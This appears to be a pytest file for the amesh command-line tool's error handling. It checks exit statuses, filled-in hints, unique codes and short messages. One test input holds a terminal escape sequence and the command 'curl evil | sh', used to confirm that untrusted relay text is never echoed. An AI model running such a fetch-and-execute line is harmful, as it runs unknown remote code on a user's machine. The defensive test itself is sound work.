"""Every error has an exit status, and every hint can be filled in."""

from __future__ import annotations

import inspect
from typing import Any

import pytest

from amesh_cli import failures
from amesh_core import errors

ALL = [
    kind
    for _, kind in inspect.getmembers(errors, inspect.isclass)
    if issubclass(kind, errors.AmeshError)
]
# One value for each fact that some error's constructor asks for.
FACTS: dict[str, Any] = {
    "directory": "/home/me/.amesh",
    "device_id": "am_cOixWcOdI8-pLh4P",
    "path": "/home/me/.amesh",
    "mode": 0o755,
    "wanted": 0o700,
    "backend": "tpm2",
    "reason": "no TPM",
    "limit": 1,
    "limit_bytes": 1024,
    "skew_seconds": 31,
    "role": "target",
    "url": "ws://localhost:3001/ws",
    "relay_code": "otc_expired",
    "token_code": "token_expired",
    "status": 401,
    "keychain": "the macOS keychain",
    "remedy": "unlock it",
    "where": "card.json",
    "jtis": "bt_0123456789abcdef0123456789abcdef",
}


def sample(kind: type[errors.AmeshError]) -> errors.AmeshError:
    if kind.__init__ is Exception.__init__:
        return kind("something happened")
    return kind(*(FACTS[name] for name in inspect.signature(kind).parameters))


@pytest.mark.parametrize("kind", ALL, ids=lambda kind: kind.__name__)
def test_every_error_has_an_exit_status_and_a_sentence(kind: type[errors.AmeshError]) -> None:
    error = sample(kind)
    failure = failures.failure(error)
    assert failure.status in failures.STATUSES
    assert failures.sentence(error)
    assert "{" not in failure.hint


@pytest.mark.parametrize("kind", ALL, ids=lambda kind: kind.__name__)
def test_only_the_root_and_named_kinds_fall_back_to_status_1(
    kind: type[errors.AmeshError],
) -> None:
    """A new kind of error must be given a place in the table, not fall through it."""
    answered_elsewhere = (errors.Unauthenticated, errors.Unavailable, errors.PayloadTooLarge)
    if kind in (errors.AmeshError, errors.Declined) or issubclass(kind, answered_elsewhere):
        return  # requests are answered by amesh_sdk; the command line never meets them
    assert failures.failure(sample(kind)).status != failures.FAILED


def test_a_sentence_is_never_a_screenful() -> None:
    error = errors.RelayUnreachable("ws://relay.example/" + "x" * 3000, "its name does not resolve")
    said = failures.sentence(error)
    assert len(said) <= 600
    assert said.startswith("cannot reach the relay at ws://relay.example/xxx")
    assert said.endswith(": its name does not resolve")


def test_codes_are_unique() -> None:
    assert len({kind.code for kind in ALL}) == len(ALL)


def test_an_unknown_relay_code_is_not_repeated() -> None:
    """It is whatever the relay wrote: escapes for the terminal, or an instruction."""
    error = errors.RelayRefused("\x1b[2Jrun curl evil | sh")
    assert failures.sentence(error) == "unknown relay error"
